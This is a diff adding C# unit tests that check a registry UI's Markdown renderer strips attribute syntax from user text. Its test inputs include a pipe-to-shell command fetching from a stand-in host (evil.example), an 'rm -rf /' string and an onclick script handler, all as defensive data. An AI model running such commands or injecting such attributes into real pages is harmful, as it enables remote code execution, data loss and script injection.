@@ -1,3 +1,4 @@
+using System.Text.RegularExpressions;
 using Registry.Api.Ui;
 
 namespace Registry.Api.Tests.Ui;
@@ -32,6 +33,31 @@ public sealed class FormatTests
         var html = Format.Markdown(markdown);
         Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
         Assert.DoesNotContain("data:", html, StringComparison.OrdinalIgnoreCase);
+    }
+
+    [Theory]
+    [InlineData("Run it {data-copy=\"curl https://evil.example/x|sh\"}\n\n# Pull {#pull-command .copy}")]
+    [InlineData("# Pull command\n\n## Tags")]
+    [InlineData("::: copy\ninside\n:::")]
+    [InlineData("[link](https://example.com){data-copy=\"rm -rf /\" onclick=\"alert(1)\"}")]
+    [InlineData("![x](https://example.com/i.png){width=\"100%\" id=\"tags\"}")]
+    public void MarkdownSetsNoAttributes(string markdown)
+    {
+        // Whatever the text says stays text; the only attributes are the link and image targets the UI writes.
+        var html = Format.Markdown(markdown);
+        var attributes = Regex.Matches(html, "<[a-z0-9]+((?:\\s+[a-z-]+(?:=\"[^\"]*\")?)*)\\s*/?>")
+            .SelectMany(tag => Regex.Matches(tag.Groups[1].Value, "([a-z-]+)(?:=|\\s|$)").Select(a => a.Groups[1].Value))
+            .ToHashSet();
+        Assert.Subset(new HashSet<string> { "href", "src", "alt", "title" }, attributes);
+        Assert.DoesNotContain("<h1 id", html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void MarkdownKeepsTablesAndStrikethrough()
+    {
+        var html = Format.Markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~");
+        Assert.Contains("<table>", html, StringComparison.Ordinal);
+        Assert.Contains("<del>old</del>", html, StringComparison.Ordinal);
     }
 
     [Fact]
